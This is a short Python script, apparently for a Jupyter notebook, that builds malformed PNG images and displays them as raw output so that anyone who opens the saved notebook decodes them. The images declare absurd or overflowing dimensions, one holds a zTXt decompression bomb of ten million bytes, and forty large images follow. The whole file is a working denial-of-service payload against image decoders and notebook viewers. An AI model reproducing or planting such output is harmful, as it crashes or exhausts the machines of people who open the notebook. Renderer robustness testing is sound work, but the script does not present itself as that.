"""Shows tiny pictures that are sixty thousand pixels wide and high: whoever opens the page decodes them."""

import struct
import zlib

from IPython.display import display


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def picture(width, height, *more):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(100_000)))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(more) + pixels + chunk(b"IEND", b"")


bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(10_000_000)))
for content in (picture(60_000, 60_000), picture(2**31 - 1, 1), picture(0, 5), picture(8, 8, bomb)):
    display({"image/png": content}, raw=True)
for _ in range(40):
    display({"image/png": picture(4_000, 4_000)}, raw=True)
